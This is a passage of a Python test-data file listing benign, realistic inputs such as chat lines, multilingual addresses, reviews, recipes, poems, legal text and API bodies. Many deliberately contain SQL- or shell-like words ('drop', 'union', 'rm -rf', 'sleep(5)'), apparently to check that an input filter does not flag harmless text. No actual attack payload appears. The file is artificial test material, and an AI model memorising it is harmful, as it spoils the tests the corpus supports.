    ("/docs/security/csp", "yes", "Helpful. You might add that inline onclick= attributes also need 'unsafe-inline' "
     "or a hash - took me an hour to figure out."),
    ("/docs/api/errors", "no", "Error 422 isn't listed. We get it when a field is null - is that \"invalid\" or "
     "\"missing\"?"),
    ("/docs/self-hosting/backup", "no", "The restore step says to run the script as root but never says where "
     "the dump file should go. /var/backups? ~/backups?"),
    ("/docs/search/syntax", "yes", "Love that NOT, AND, OR and \"quoted phrases\" are all supported. An example "
     "with brackets (a OR b) AND c would help."),
    ("/docs/api/rate-limits", "no", "Is the limit 100 req/min per key or per IP? The header is X-RateLimit-Limit "
     "but the text says \"per account\"."),
    ("/docs/email/templates", "no", "If I want a literal {{ in the email, how do I escape it?"),
    ("/docs/integrations/zapier", "yes", "Worked first time 🙌"),
    ("/docs/accounts/sso", "no", "Which attribute do you read for the user's email - mail or userPrincipalName? "
     "Our directory has both and they differ for ~5% of staff."),
    ("/docs/faq", "no", "The answer to \"Can I delete a store?\" just links back to the FAQ index."),
]

# Wiki edits (sent as multipart/form-data): (title, content, edit summary).
WIKI = [
    ("Onboarding/Dev machine setup",
     "== Prerequisites ==\n* Homebrew (macOS) or apt (Ubuntu)\n* Add your ~/.local/bin to PATH in ~/.bashrc or "
     "~/.zshrc\n* Clone the repo into ~/src, not into a path with spaces\n\n== First run ==\nRun `make setup && "
     "make dev` and open http://localhost:8080.", "add PATH step"),
    ("Runbooks/Database restore",
     "If someone drops a table in production:\n# Stop the writers (scale the API to 0).\n# Find the last good "
     "snapshot in the console.\n# Restore it to a NEW instance, never over the old one.\n# Copy the table across "
     "with pg_dump -t and psql.\n# Tell #incidents what you did and when.", "clarify step 3"),
    ("Glossary",
     "; Union : a store that groups several warehouses for stock counts.\n; Drop : a limited product release "
     "(\"the spring drop\").\n; Select : our premium membership tier.", "add Select"),
    ("Office/Dublin",
     "Address: 3rd floor, 12–14 St. Stephen's Green, Dublin 2. Door code changes monthly - ask Róisín. The "
     "kitchen's on the left; please don't leave dishes > 1 day.", "new door code process"),
    ("Style guide/Punctuation",
     "Use an en dash (–) for ranges (9–5), an em dash (—) for breaks in thought. Curly quotes “like this” in "
     "copy, straight quotes \"like this\" in code. Never use && in headings; write \"and\".", "dashes"),
    ("Support/Macros",
     "Macro text can use {{ticket.requester.first_name}} and {{ticket.id}}. Test every macro in the sandbox; a "
     "typo like {{ticket.requster}} renders as empty text, not an error.", "typo example"),
    ("Infra/DNS",
     "For local testing, map shop.local to 127.0.0.1 in /etc/hosts (macOS/Linux) or "
     "C:\\Windows\\System32\\drivers\\etc\\hosts (Windows, edit as Administrator).", "windows path"),
    ("Team rituals",
     "Stand-up: 09:45, 15 min max. Retro: every 2nd Friday. If you can't make it, post your update in the "
     "channel; \"no update\" is a fine update :)", "retro cadence"),
    ("Security/Reporting a vulnerability",
     "Found something like XSS, SQL injection or an open redirect? Email security@ with steps to reproduce. "
     "Don't test against customers' stores and don't paste proof-of-concept code in public channels.",
     "scope"),
    ("Recipes/Friday cake",
     "Whoever breaks the build buys cake. Current record: 4 cakes in one week (the great lockfile incident of "
     "'25).", "history"),
    ("Data/Reporting tables",
     "The `daily_sales` view is a UNION ALL of web and in-store sales. Don't SELECT from raw_events directly; it "
     "has ~2 billion rows and no partition pruning on user_id.", "warn about raw_events"),
    ("Hiring/Interview loop",
     "1. Recruiter screen (30') 2. Pairing exercise (90') 3. System design (60') 4. Values (45'). Candidates can "
     "use any language; we provide Python, Go & TypeScript starters.", "times"),
    ("Tools/Shell aliases",
     "Handy: `alias gs='git status -sb'`, `alias k=kubectl`. Avoid aliasing rm to rm -i on shared boxes - "
     "people come to rely on it and then it isn't there.", "rm advice"),
    ("Customers/Accessibility statement",
     "We aim for WCAG 2.2 AA. Known issues: the date picker isn't fully keyboard-accessible; some PDF invoices "
     "lack tags. Contact accessibility@shop.example.", "known issues"),
    ("Events/Summer party",
     "Friday 4 July, 5pm till late @ The Union Rooms. +1s welcome. Dietary needs → tell Kemi by 27 June!",
     "venue"),
]

# Chat messages.
CHAT = [
    "can someone drop the staging db? it's full of test orders again",
    "deploying in 5 — shout if you're mid-migration 🙏",
    "lgtm, but maybe rename `select_all()` → `select_all_visible()`?",
    "who owns /etc/nginx/conf.d/shop.conf? someone changed the upstream",
    "ok so `SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day'` says 4,211 — matches the "
    "dashboard",
    "brb, lunch 🍜",
    "ping me if the 03:00 cron fails again; logs are in /var/log/shop/cron.log",
    ":+1: ship it",
    "anyone know why `npm ci && npm test` passes locally but CI says exit code 137? OOM?",
    "heads up: I'll kill the old worker pods at 6pm",
    "is it just me or is the admin really slow today? like 8-10s per page",
    "the script tag for the chat widget is loaded twice on /checkout, that's why it's doubled",
    "👀 who wrote `WHERE 1=1` in the report builder lol — oh, it was me, in 2021",
    "reminder: no deploys on Friday after 3pm. yes this means you 😅",
    "can you send me the path? I'm looking in C:\\shared\\exports but only see last week's",
    "pls review #2291 when you have a sec, it's a one-liner",
    "that error's from the cat command in the Dockerfile - file doesn't exist at build time",
    "I think the union of both lists is what marketing wants, not the intersection",
    "merged. thanks!! <3",
    "does anyone have sudo on the build box? need to clear /tmp, disk is at 98%",
    "fyi the new hire starts Monday — Ana Lúcia, she'll sit next to the window",
    "can we order by priority desc in the triage view? P1s are buried",
    "grep -r \"TODO\" src | wc -l → 412. we have a problem",
    "out sick today 🤒 will check messages later",
    "it's `${HOME}` not `$(HOME)` — the second one runs HOME as a command",
    "sorry, that was meant for the other channel 🙈",
]

# Checkout addresses: (name, street, city, postcode, country, note).
ADDRESSES = [
    ("Seán Ó Briain", "Flat 3, 12 O'Connell Street", "Limerick", "V94 X2K7", "IE", "Leave with neighbour at no. 14 "
     "if I'm out"),
    ("Marie-Thérèse Lévesque-D'Amours", "4521 rue Saint-Denis, app. 3", "Montréal QC", "H2J 2L4", "CA",
     "Buzzer #3 – code 1234*"),
    ("Hans-Jürgen Müller-Lüdenscheidt", "Königsallee 27–29", "Düsseldorf", "40212", "DE", "Hinterhaus, 2. OG"),
    ("D'Arcy St. John-Smythe", "The Old Rectory, Church Lane", "Much Wenlock", "TF13 6AA", "GB",
     "Gate is stiff — push hard!"),
    ("José María Núñez de Balboa", "C/ de l'Hospital, 45, 2º 1ª", "Barcelona", "08001", "ES", ""),
    ("Zoë O'Hara-Nakamura", "Apt #5B, 221 W. 79th St.", "New York, NY", "10024", "US",
     "Doorman on duty 24/7; ring 5B"),
    ("李小龙", "浦东新区世纪大道100号 25楼", "上海", "200120", "CN", "请放在前台"),
    ("山田 太郎", "渋谷区神南1-2-3 ヒルズ401号室", "東京都", "150-0041", "JP", "不在の場合は宅配ボックスへ"),
    ("Αλέξανδρος Παπαδόπουλος", "Οδός Ερμού 25", "Αθήνα", "105 63", "GR", ""),
    ("محمد عبد الله", "شارع الملك فهد، مبنى 12", "الرياض", "12271", "SA", "الرجاء الاتصال قبل التوصيل"),
    ("Björn Þórðarson", "Laugavegur 18", "Reykjavík", "101", "IS", ""),
    ("Małgorzata Wąsowska-Żak", "ul. Świętokrzyska 14/22", "Warszawa", "00-050", "PL", "domofon 22, potem #"),
    ("Nguyễn Thị Minh Khai", "123 Đường Lê Lợi, Phường Bến Thành", "TP. Hồ Chí Minh", "700000", "VN", ""),
    ("Rev. Dr. Martin O'Leary, Jr.", "P.O. Box 1047", "Savannah, GA", "31402-1047", "US", ""),
    ("Ana-Lúcia dos Santos e Silva", "Rua Dr. Fernão d'Almeida, 77 – 3º Esq.", "Porto", "4050-263", "PT",
     "Não tocar à campainha (bebé a dormir)"),
    ("Jean-Baptiste N'Diaye", "12, avenue Cheikh Anta Diop", "Dakar", "10700", "SN", ""),
    ("Ōtomo no Yakamochi-Smith", "Unit 4/56 Bondi Rd", "Bondi NSW", "2026", "AU", "Side gate; dog is friendly 🐶"),
    ("Ye-jin Park", "서울특별시 강남구 테헤란로 152, 12층", "서울", "06236", "KR", "경비실에 맡겨 주세요"),
    ("Ólafur Ragnar Grímsson-Ward", "Flat 2/1, 45 Byres Road", "Glasgow", "G11 5RG", "GB", "Tenement - 2nd floor, "
     "left door"),
    ("Dr. Käthe von der Heyde-O'Neill", "Hauptstr. 1a / Top 7", "Wien", "1010", "AT", "Bitte nicht knicken!"),
    ("Tūī Te Whatu-Ngata", "8 Kāpiti Road", "Paraparaumu", "5032", "NZ", ""),
    ("Smith & Sons Ltd. (Attn: Accounts Payable)", "Unit 7, Riverside Ind. Est.", "Leeds", "LS10 1AB", "GB",
     "Goods-in closes 4:30pm Mon–Fri"),
]

# Contact messages in other languages and scripts: (language, text).
CONTACT_I18N = [
    ("de", "Guten Tag, ich habe am 3. März die Bestellung Nr. 44120 aufgegeben, aber noch keine "
     "Versandbestätigung erhalten. Könnten Sie bitte nachsehen? Vielen Dank & schöne Grüße"),
    ("de", "Bitte wählen Sie alle zutreffenden Optionen aus – bei mir funktioniert das Auswahlfeld nicht. "
     "Browser: Firefox 128, Betriebssystem: Linux."),
    ("fr", "Bonjour, l'article « Table basse en chêne » est arrivé avec un pied cassé. Pourriez-vous m'envoyer "
     "une pièce de rechange ? Merci d'avance !"),
    ("fr", "Je n'arrive pas à sélectionner l'option « livraison en point relais » ; le bouton reste grisé. C'est "
     "normal ?"),
    ("es", "Hola: quisiera cambiar la dirección de entrega del pedido n.º 7731 a C/ Mayor, 3, 2.º izda. ¿Es "
     "posible? ¡Gracias!"),
    ("es", "¿Tienen la mesa en roble y nogal? En la web sólo aparece «agotado»."),
    ("it", "Salve, ho ricevuto due volte la stessa fattura (n. 2026/118). Potete annullarne una? Grazie mille."),
    ("pt", "Olá! A encomenda chegou, mas faltava o cabo de alimentação. Podem enviá-lo? Obrigada :)"),
    ("nl", "Hoi, de kortingscode werkt niet bij het afrekenen - er staat 'ongeldig' terwijl de actie tot en met "
     "zondag loopt."),
    ("sv", "Hej! Går det att hämta ut paketet på ett ombud i stället för hemleverans? Mvh Åsa"),
    ("pl", "Dzień dobry, czy mogę zwrócić krzesło po 30 dniach? Paragon mam, opakowanie niestety już nie."),
    ("cs", "Dobrý den, objednávka č. 5521 dorazila poškozená. Přikládám fotky. Děkuji za vyřízení."),
    ("tr", "Merhaba, siparişim üç gündür \"hazırlanıyor\" durumunda görünüyor. Ne zaman kargoya verilir?"),
    ("ru", "Здравствуйте! Не могу войти в личный кабинет: пишет «неверный пароль», хотя я его только что "
     "сменил. Что делать?"),
    ("ru", "Подскажите, пожалуйста, как выгрузить заказы за период с 01.01 по 31.03 в Excel?"),
    ("uk", "Добрий день! Чи можлива доставка до Львова? Дякую."),
    ("el", "Καλησπέρα σας, θα ήθελα να ακυρώσω την παραγγελία μου αρ. 3390. Ευχαριστώ πολύ!"),
    ("ar", "مرحباً، طلبت مقاساً كبيراً لكن وصلني مقاس متوسط. كيف يمكنني استبداله؟ شكراً لكم."),
    ("he", "שלום, ההזמנה שלי (מס' 8812) עדיין לא הגיעה. אפשר לבדוק מה הסטטוס? תודה רבה!"),
    ("fa", "سلام، آیا امکان ارسال به شیراز وجود دارد؟ هزینه ارسال چقدر است؟"),
    ("hi", "नमस्ते, मेरा ऑर्डर #4471 अभी तक नहीं पहुँचा है। कृपया जाँच करें। धन्यवाद!"),
    ("bn", "হ্যালো, আমি আমার অর্ডার বাতিল করতে চাই। অর্ডার নম্বর ২২১৯।"),
    ("th", "สวัสดีครับ สินค้าที่สั่งไปได้รับแล้ว แต่สีไม่ตรงกับในรูป ขอเปลี่ยนได้ไหมครับ"),
    ("vi", "Xin chào, tôi muốn đổi size áo từ M sang L. Đơn hàng số 6620. Cảm ơn!"),
    ("zh", "您好，我想查询一下订单 20260315-889 的物流信息，已经一周没有更新了。谢谢！"),
    ("zh-TW", "請問這款桌子可以寄到台中嗎？運費大約多少？"),
    ("ja", "お世話になっております。注文番号 5512 の商品ですが、色違いが届きました。交換をお願いできますでしょうか。"),
    ("ko", "안녕하세요, 주문한 의자가 아직 배송되지 않았습니다. 확인 부탁드립니다. 감사합니다!"),
    ("fi", "Hei! Voinko vaihtaa toimitusosoitteen, vaikka tilaus on jo käsittelyssä?"),
    ("hu", "Jó napot! A számlán rossz cégnév szerepel (Kft. helyett Bt.). Kérem javítsák. Köszönöm!"),
    ("ro", "Bună ziua, aș dori să știu dacă produsul „Lampă de birou” va reveni în stoc."),
    ("id", "Halo, apakah bisa bayar di tempat (COD) untuk pengiriman ke Surabaya? Terima kasih."),
    ("sw", "Habari, nimepokea kifurushi lakini kimoja kati ya vikombe kimevunjika. Naomba msaada."),
    ("ga", "Dia dhuit, an féidir liom an t-ordú a bhailiú ón siopa i nGaillimh? Go raibh maith agat!"),
]

# Product reviews: (rating, title, text).
REVIEWS = [
    (5, "Does exactly what it says – 10/10", "Bought the 2-pack for £24.99 (was £34.99, so ~29% off). Sturdy, "
     "quiet, and the \"select\" button actually clicks this time!! Would buy again :)"),
    (2, "Meh...", "Arrived 3 days late; box was crushed; one leg of the table was 2–3 mm shorter than the others "
     "(yes, I measured). Support said \"drop it off at any store\" — nearest is 40 miles away >:("),
    (4, "Great for < £50", "Bright (800 lm), warm-ish (2700K). Minus 1 star: the on/off switch is on the cable & "
     "hard to reach."),
    (1, "DO NOT BUY!!!", "Stopped working after 2 weeks. 'Reset' = hold button 10s... did nothing. Refund pending "
     "(RMA-55120)."),
    (5, "Cat approved 🐱", "My cat's a picky eater and she'll only eat this & the salmon one. 12 x 85g pouches for "
     "€9.49 — good value."),
    (3, "It's fine, I guess?", "Does the job. Smells a bit \"chemical\" for the first day or two. Instructions "
     "were in 14 languages but the diagram for step 4 was wrong (part C ≠ part D)."),
    (5, "Best kettle I've owned", "Boils 1.7 L in ~3 min. Lid opens fully (no more steam burns!), and it's not "
     "loud. 5/5."),
    (4, "Good, but sizing runs small", "I'm normally a 10 (UK) / 38 (EU) - had to exchange for a 12. Fabric is "
     "lovely; colour is more \"dusty rose\" than \"pink\"."),
    (1, "Broke on day one", "The handle snapped off when I lifted it with ~2kg of soup in it. Hot soup. On my "
     "feet. 0/10 if I could."),
    (5, "Script-writing companion", "I write screenplays and this notebook's dot grid is perfect for "
     "beat sheets. Paper takes fountain pen ink w/o bleeding."),
    (4, "Solid union of form and function", "Looks great in our hallway; holds 8 pairs of shoes (adult sizes 5–11). "
     "Assembly took 45 mins; screws #7 & #9 look nearly identical - label them!"),
    (2, "Not as pictured", "Photo shows walnut; what arrived is a photo-printed laminate. For £189 I expected real "
     "wood... returning it."),
    (5, "Perfect gift", "Bought for my dad's 70th 🎂 — he's used it every day since. The engraving (\"To Da, love "
     "C & M\") was done beautifully."),
    (3, "OK for the price", "You get what you pay for: $12.99, plastic feels cheap, but it hasn't broken yet (3 "
     "months). Battery life ≈ 6 h vs \"10 h\" claimed."),
    (5, "Drop-proof, as promised", "Dropped my phone from ~1.5 m onto tiles twice (oops) - not a scratch. Case adds "
     "maybe 2 mm. Buttons are clicky."),
    (4, "Lovely yarn", "Soft, no pilling after 5 washes @ 30°. Colour \"Moss\" is slightly greener than on screen. "
     "Took 7 skeins for a size M jumper."),
    (1, "Charger died + smell", "After 10 days the charger got hot and smelled like burning plastic. Unplugged "
     "immediately. Please check this batch (#B2291)!"),
    (5, "Kids love it", "Our 4- and 7-year-olds play with this daily. Pieces are big enough not to be a choking "
     "hazard; box says 3+."),
    (4, "Does the trick", "Works with my Mac (macOS 15) and Windows 11 laptop. On Linux I had to add my user to "
     "the 'dialout' group, then fine."),
    (2, "Instructions are useless", "\"Insert tab A into slot B\" — there is no slot B. There are two slot Cs. Got "
     "there in the end with a YouTube video."),
    (5, "Wow", "Just... wow. Sound quality is incredible for the size. Bass isn't boomy. Paired instantly."),
    (3, "Comfortable, but…", "Comfy for ~2 hours, then the headband pinches. Maybe I have a big head ¯\\_(ツ)_/¯"),
    (5, "Mejor compra del año", "Llegó en 2 días, bien embalado. La calidad es excelente y el precio (59,90 €) muy "
     "razonable."),
    (4, "Très bon rapport qualité/prix", "Le matelas est ferme mais pas trop ; il a fallu 48 h pour qu'il reprenne "
     "sa forme. Je recommande !"),
    (1, "Wrong item", "Ordered the 'Select' range mattress topper, got a pillow. Two emails, no reply yet."),
]

# Recipes, shared from a cooking app: (title, ingredients, method).
RECIPES = [
    ("Grandma's soda bread", ["450 g plain flour", "1 tsp bicarbonate of soda", "1 tsp salt",
                              "350–400 ml buttermilk"],
     "Preheat to 220°C (200°C fan) / 425°F. Mix the dry ingredients, make a well & pour in most of the "
     "buttermilk. Mix with a fork - don't knead! Shape, cut a deep cross on top and bake 30–35 min until it "
     "sounds hollow when tapped."),
    ("Weeknight dal", ["1 cup red lentils", "1 onion, diced", "2 cloves garlic", "1 tsp each cumin & turmeric",
                       "400 ml coconut milk", "salt & pepper to taste"],
     "Fry onion 5-6 min; add garlic + spices for 1 min. Add lentils, coconut milk and ~2 cups water. Simmer "
     "20 min, stirring so it doesn't catch. Finish with lemon juice. Serves 4 (or 2 very hungry people)."),
    ("Lemon drizzle cake", ["225 g butter, softened", "225 g caster sugar", "4 eggs", "225 g self-raising flour",
                            "zest of 1 lemon", "for the drizzle: juice of 1½ lemons + 85 g sugar"],
     "Cream butter & sugar; beat in eggs one at a time; fold in flour and zest. Bake in a 2 lb loaf tin at "
     "180°C for 45–50 min. While warm, prick all over and pour over the drizzle. Cool in the tin!"),
    ("Shakshuka", ["2 tbsp olive oil", "1 red pepper", "2 × 400 g tins chopped tomatoes", "1 tsp smoked paprika",
                   "4-6 eggs", "feta & parsley to serve"],
     "Soften pepper in oil, add paprika, then tomatoes. Simmer 10 min until thick. Make wells, crack in the eggs, "
     "cover and cook 5–8 min (runny yolks) or longer if you like them firm. Crumble feta over."),
    ("Overnight oats", ["½ cup rolled oats", "½ cup milk (any)", "¼ cup yoghurt", "1 tbsp chia seeds",
                        "berries / honey"],
     "Mix everything except toppings in a jar, lid on, fridge overnight (8 h+). In the morning add berries & "
     "a drizzle of honey. Keeps 3 days."),
    ("Miso ramen (quick)", ["2 portions ramen noodles", "1 l chicken or veg stock", "2 tbsp white miso",
                            "1 tbsp soy sauce", "2 soft-boiled eggs (6½ min)", "spring onions, nori"],
     "Heat stock; whisk miso + soy into a ladleful, then stir back in (don't boil miso hard). Cook noodles "
     "separately, drain, add to bowls, pour over broth, top with halved eggs. 15 minutes, start to finish."),
    ("Pancakes (makes ~12)", ["200 g plain flour", "2 tsp baking powder", "1 tbsp sugar", "pinch of salt",
                              "2 eggs", "300 ml milk", "25 g melted butter"],
     "Whisk dry; whisk wet; combine - a few lumps are OK. Rest 10 min. Cook ladlefuls on a medium pan until "
     "bubbles pop, flip, 1 more min. Ratio tip: 1:1.5 flour:milk by weight."),
    ("Gazpacho", ["1 kg ripe tomatoes", "1 cucumber", "1 green pepper", "1 garlic clove", "50 ml olive oil",
                  "2 tbsp sherry vinegar"],
     "Roughly chop, blend until smooth, season, sieve if you want it silky. Chill ≥ 2 h. Serve with croutons "
     "and a splash more oil. No cooking = perfect for 35°C days."),
    ("Chocolate chip cookies", ["125 g butter", "100 g brown sugar", "75 g white sugar", "1 egg",
                                "225 g flour", "½ tsp bicarb", "200 g chocolate chips"],
     "Cream butter and sugars, beat in egg, stir in flour, bicarb and chips. Chill the dough 30 min (or "
     "overnight - even better). Bake 10–12 min at 180°C; they'll look underdone but firm up as they cool."),
]

# Legal text, saved from a CMS page editor: (page, text).
LEGAL = [
    ("terms", "4.2 Limitation of liability. TO THE MAXIMUM EXTENT PERMITTED BY LAW, NEITHER PARTY SHALL BE LIABLE "
     "FOR ANY INDIRECT, INCIDENTAL OR CONSEQUENTIAL LOSS, OR LOSS OF PROFITS, WHETHER IN CONTRACT, TORT "
     "(INCLUDING NEGLIGENCE) OR OTHERWISE. Nothing in these Terms excludes liability for death or personal "
     "injury caused by negligence, or for fraud."),
    ("privacy", "We process your delivery address on the basis of Art. 6(1)(b) GDPR (performance of a contract) "
     "and, for fraud prevention, Art. 6(1)(f) (legitimate interests). You may object at any time; see section "
     "9 (\"Your rights\")."),
    ("returns", "You may cancel within 14 days of receiving the goods without giving any reason (Consumer "
     "Contracts (Information, Cancellation and Additional Charges) Regulations 2013, reg. 29-31). Items must be "
     "returned unused; we may deduct up to 100% of the price for damage beyond normal handling."),
    ("cookies", "Strictly necessary cookies (e.g. session, csrftoken) cannot be switched off. Analytics cookies "
     "(_ga, _gid) are set only with your consent, which you can withdraw via \"Cookie settings\" at the foot of "
     "every page."),
    ("impressum", "Angaben gemäß § 5 TMG: Shop Example GmbH, Musterstraße 1, 10115 Berlin. Vertreten durch die "
     "Geschäftsführer: A. Beispiel, B. Muster. Registergericht: Amtsgericht Charlottenburg, HRB 123456 B. "
     "USt-IdNr.: DE123456789."),
    ("terms", "12. Governing law. These Terms and any dispute or claim (including non-contractual disputes or "
     "claims) arising out of or in connection with them shall be governed by the laws of Ireland, and the "
     "courts of Dublin shall have exclusive jurisdiction; provided that consumers resident in another Member "
     "State retain the protection of its mandatory provisions."),
    ("acceptable-use", "You must not: (a) attempt to gain unauthorised access to the Service, its servers or "
     "databases; (b) introduce viruses, trojans, worms or other malicious material; (c) use automated means to "
     "scrape, select or copy content except as permitted by robots.txt; or (d) resell access."),
    ("competition", "No purchase necessary. Open to UK residents aged 18+, excluding employees and their "
     "families. Closes 23:59 GMT on 31/05/2026. One entry per person; the winner will be selected at random "
     "within 7 days & notified by email."),
]

# Poems, submitted to a community magazine: (title, text).
POEMS = [
    ("Select All",
     "I held the shift key down for years,\nselecting all that I had been;\nthe drafts, the doubts, the "
     "unsaved fears,\nthe cursor blinking in between.\n\nThen, gently, I let go - and chose\none line, and kept "
     "it. Deleted those."),
    ("Union Street, 6 a.m.",
     "The bakery breathes its first warm loaf;\na bus sighs at the kerb and leaves.\nTwo gulls dispute a "
     "paper cup -\nthe street belongs to those who wake."),
    ("Haiku for a failing build",
     "red lights in the night\nsomeone pushed on a Friday\nthe coffee grows cold"),
    ("Root",
     "Not the folder, not the user,\nbut the thing beneath the tree:\nwhat drinks in dark, and holds, and "
     "never\nasks the light to notice me."),
    ("Drop",
     "A drop, then two, then all the sky\nlets go of what it couldn't hold;\nthe gutter sings, the window "
     "cries,\nthe cat comes in, indignant, cold."),
    ("Echo",
     "I called your name across the quarry -\necho, echo, echo... gone.\nThe stone remembers, I am sorry,\n"
     "longer than the voice goes on."),
    ("Sonnet-ish, for Tuesday",
     "O Tuesday, neither start nor end of week,\nyou middle child of calendars and plans;\nno one writes "
     "songs for you, nor do they speak\nof you with dread - you're simply in our hands."),
    ("Limerick of the sysadmin",
     "A sysadmin out in Kildare\ntyped rm with a flourish and flair;\nbut the path that he chose\nwas the "
     "root, heaven knows,\nand now there is nothing left there."),
    ("Mother tongue",
     "My grandmother counted in Gaelic,\nprayed in Latin, cursed in Hindi - \nshe said each language had a "
     "room\nand she kept every door open."),
]

# Free text kept in cookies (drafts, saved searches, notes): sent percent-encoded, as browsers' JS does.
COOKIE_TEXTS = [
    "Remember: order cat food & drop the parcel off @ the post office (before 5pm!)",
    "Draft: Hi team - can we move the union meeting to Thursday? Tuesday clashes with the select committee hearing.",
    "recent: [\"drop leaf table\", \"union jack cushion\", \"select comfort pillow\", \"script mug\"]",
    "Note to self: /etc/hosts on the laptop still points shop.local at 10.0.0.4 - change it back",
    "Wishlist for Sam's b'day: 1) Lego 42151 2) \"The Hobbit\" (illustrated) 3) socks, obviously",
    "checkout_note=Please ring twice; the bell's broken. If no answer, leave by the green bin :)",
    "last filters: price < 50, rating >= 4, colour in (red, blue), sort = newest first",
    "Unsent reply: Yes!! <3 See you at 7 -- I'll bring the wine & cheese 🧀",
    "Compare list: Model A (£399, 8GB/256GB) vs Model B (£449, 16GB/512GB) — B is +12.5% for 2x the RAM",
    "form draft: \"I'd like to report a bug: the 'Select all' checkbox doesn't work on page 2\"",
    "Saved search: \"exec chair\" AND leather -black",
    "Cart note: gift for Aoibheann O'Súilleabháin-Kerr - no receipt in the box please",
    "Autosave 14:32 — Chapter 3: The rain came down on Union Street like it had something to prove.",
    "preferences: {\"sort\": \"order by date\", \"view\": \"grid\", \"per_page\": 48}",
    "Search history: how to remove rm alias; ~/.bashrc vs ~/.bash_profile; what is $PATH",
]

# Search queries in the Referer of a visitor arriving from a search engine.
REFERER_QUERIES = [
    "how to drop a column in postgres without downtime", "select all checkboxes javascript",
    "union vs union all performance", "etc hosts file location windows 11", "what is cross site scripting",
    "rm -rf permission denied mac", "script tag async vs defer", "c:\\windows\\system32\\drivers\\etc\\hosts "
    "edit", "best drop leaf table for small kitchen", "where to buy cat tree uk", "insert into select mysql example",
    "bash if [ -f file ] else", "html onclick vs addEventListener", "\"order by\" multiple columns",
    "grep -r exclude directory", "1=1 meaning sql", "null vs undefined javascript", "ls -la explained",
    "<br> vs <br/>", "sleep(5) python", "wget download whole site", "admin' login page template free",
    "$HOME vs ~", "alert() in react not working",
]

# Free text in custom headers: (header, text).
HEADER_TEXTS = [
    ("X-Comment", "Please leave at the back door -- the dog is friendly!"),
    ("X-Display-Name", "Dr. Anne-Marie O'Neill"),
    ("X-Order-Note", "Gift for mum; wrap in paper, no prices please"),
    ("X-Feedback", "5/5 would <3 again"),
    ("X-Search-Context", "select committee on science & technology"),
    ("X-Ticket-Subject", "Re: [URGENT] Can't log in && password reset fails"),
    ("X-Display-Name", "Zoë Ó Briain"),
    ("X-Client-Note", "Deployed from ~/work/shop-app (branch feature/drop-shipping)"),
    ("X-Comment", "Works fine in Chrome; in Safari the <select> dropdown is empty."),
    ("X-Device-Name", "Tomás's iPhone (2)"),
    ("X-Display-Name", "D'Angelo \"DJ\" Rossi-Smith"),
    ("X-Order-Note", "Deliver between 9-12 or after 17:00, not in between"),
    ("X-Search-Context", "union jack flag 5' x 3'"),
    ("X-Comment", "x = 2*(y+3) where y > 0"),
    ("X-Source-Path", "C:\\Users\\kwame\\Documents\\Orders\\2026\\export.csv"),
    ("X-Build-Info", "build 2026.04.12+sha.3f9a1c2 (rustc 1.87.0; linux-x86_64)"),
    ("X-Widget-Title", "Today's deals: up to 50% off!"),
    ("X-Display-Name", "Kemi Adébáyọ̀"),
    ("X-Comment", "Ordered 3 x 'Select' pillows - only 2 arrived :("),
    ("X-Referral-Note", "Heard about you on the Union Street Podcast (ep. #42)"),
    ("X-Preview-Text", "Your order #44120 is on its way — track it here"),
]

# Path slugs: blog posts, wiki pages, products, profiles (RFC 3986 path characters left as browsers send them).
PATH_SLUGS = [
    "/blog/2026/03/why-we-dropped-the-union-table", "/wiki/Bobby_Tables_(comic)", "/docs/guides/select-and-order-by",
    "/products/cat-tree-deluxe-180cm", "/kb/how-to-edit-etc-hosts-on-mac", "/tags/c%23", "/authors/o'hara",
    "/wiki/Rock_'n'_Roll", "/products/drop-earrings-14k-gold", "/blog/rm-rf-and-other-scary-commands",
    "/recipes/fish-&-chips", "/wiki/C++_templates", "/questions/4471/why-does-where-name-=-null-return-nothing",
    "/products/script-mug-'good-morning'", "/wiki/Main_Page;action=history", "/blog/2026/02/50%25-off-everything",
    "/users/jean-luc_picard/posts", "/wiki/%E6%9D%B1%E4%BA%AC", "/stores/union-square-nyc",
    "/products/insert-coin-arcade-sign", "/blog/alert-fatigue-and-how-we-fixed-it", "/docs/shell/exec-and-eval",
]

# ---------------------------------------------------------------- code-ish texts (a minority)

# JSON bodies an SPA posts, with field names and values that look like SQL or shell.
JSON_API = [
    ("/api/v1/reports", {"name": "Top sellers (last 30 days)", "select": ["sku", "name", "units_sold", "revenue"],
                         "where": {"created_at": {"gte": "now-30d"}, "status": ["paid", "shipped"]},
                         "order_by": [{"field": "revenue", "dir": "desc"}], "limit": 50}),
    ("/api/v1/feature-flags", {"key": "new-checkout", "enabled": True,
                               "rules": [{"attribute": "country", "op": "in", "values": ["IE", "GB"]},
                                         {"attribute": "email", "op": "ends_with", "values": ["@shop.example"]}],
                               "rollout": {"percent": 25, "seed": "checkout-2026"}}),
    ("/api/v1/saved-searches", {"query": "drop leaf table -pine", "filters": {"price": {"lt": 300}},
                                "sort": "price asc", "notify": "weekly"}),
    ("/api/v1/events", {"event": "Product Viewed", "properties": {"product_id": "HOM-4471",
                                                                  "name": "Union Jack cushion 45×45",
                                                                  "price": 19.99, "currency": "GBP"},
                        "context": {"page": {"path": "/products/union-jack-cushion", "referrer": ""}}}),
    ("/api/v1/imports/mappings", {"source": "orders.csv", "delimiter": ";", "quote": "\"",
                                  "columns": {"Order #": "order_number", "E-mail": "email",
                                              "Total (€)": "total", "Notes / Comments": "note"}}),
    ("/api/v1/automations", {"name": "Tag VIPs", "trigger": "order.paid",
                             "condition": "customer.total_spent > 1000 && customer.orders_count >= 5",
                             "action": {"type": "add_tag", "tag": "vip"}}),
    ("/api/v1/cms/blocks", {"type": "rich_text", "content": "<p>Free delivery on orders over <strong>£50</strong>"
                                                           " &ndash; <a href=\"/delivery\">details</a></p>",
                            "visible": True}),
    ("/api/v1/alerts", {"name": "5xx rate", "expr": "sum(rate(http_requests_total{code=~\"5..\"}[5m])) / "
                                                    "sum(rate(http_requests_total[5m])) > 0.02",
                        "for": "10m", "severity": "page"}),
    ("/api/v1/scheduled-jobs", {"name": "nightly-cleanup", "schedule": "0 3 * * *",
                                "command": ["shop", "sessions", "prune", "--older-than", "24h"],
                                "timezone": "UTC"}),
    ("/api/v1/search/synonyms", {"set": "furniture", "synonyms": [["sofa", "couch", "settee"],
                                                                  ["drop leaf", "gateleg"],
                                                                  ["cat tree", "cat tower", "scratching post"]]}),
]

# GraphQL operations: (operation name, query, variables).
GRAPHQL = [
    ("SearchProducts", "query SearchProducts($q: String!, $first: Int = 24, $after: String) {\n  search(query: $q, "
     "first: $first, after: $after, orderBy: {field: RELEVANCE, direction: DESC}) {\n    edges { node { id title "
